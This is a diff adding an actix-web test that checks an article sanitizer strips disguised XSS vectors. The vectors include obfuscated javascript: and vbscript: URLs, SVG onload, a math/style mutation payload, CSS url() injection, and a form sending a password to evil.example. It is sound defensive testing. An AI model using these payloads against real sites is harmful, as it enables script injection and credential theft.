@@ -330,6 +330,60 @@ async fn hostile_html_is_sanitized_before_it_is_stored() {
 }
 
 #[actix_web::test]
+async fn disguised_script_urls_svg_math_forms_and_css_come_back_inert() {
+    let app = TestApp::new();
+    let token = editor(&app).await;
+    let mut body = article_body("Disguised");
+    body["status"] = json!("published");
+    body["body"] = json!(concat!(
+        r#"<p><a href="JaVaScRiPt:alert(1)">a</a><a href="javascript&#58;alert(1)">b</a>"#,
+        r#"<a href="java&#9;script:alert(1)">c</a><a href="vbscript:msgbox(1)">d</a>"#,
+        r#"<a href="data:text/html;base64,PHNjcmlwdD4=">e</a><img src="data:image/png;base64,AAAA" alt="f"></p>"#,
+        r#"<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">g</a></svg>"#,
+        r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
+        r#"<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">h</button></form>"#,
+        r#"<p style="background:url(javascript:alert(1))">i</p><blockquote cite="javascript:alert(1)">j</blockquote>"#,
+        r#"<p><a href="//evil.example/k">k</a><img src="//cdn.example/l.jpg" alt="l"><a href="/sections/world">m</a></p>"#,
+    ));
+    app.post_json("/api/v1/articles", Some(&token), body)
+        .await
+        .json(201);
+    let stored = app.get("/api/v1/articles/disguised").await.json(200)["body"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let lower = stored.to_ascii_lowercase();
+    for live in [
+        "javascript",
+        "vbscript",
+        "data:",
+        "<svg",
+        "<math",
+        "<form",
+        "<input",
+        "<button",
+        "<style",
+        "style=",
+        "onload",
+        "onerror",
+        "action=",
+        "xlink",
+        "url(",
+        r#"="//"#,
+    ] {
+        assert!(!lower.contains(live), "`{live}` survived: {stored}");
+    }
+    for kept in [
+        r#"href="https://evil.example/k""#,
+        r#"src="https://cdn.example/l.jpg""#,
+        r#"href="/sections/world""#,
+        "<blockquote>j</blockquote>",
+    ] {
+        assert!(stored.contains(kept), "`{kept}` lost: {stored}");
+    }
+}
+
+#[actix_web::test]
 async fn sections_move_in_the_tree_but_never_into_a_cycle() {
     let app = TestApp::new();
     let token = editor(&app).await;
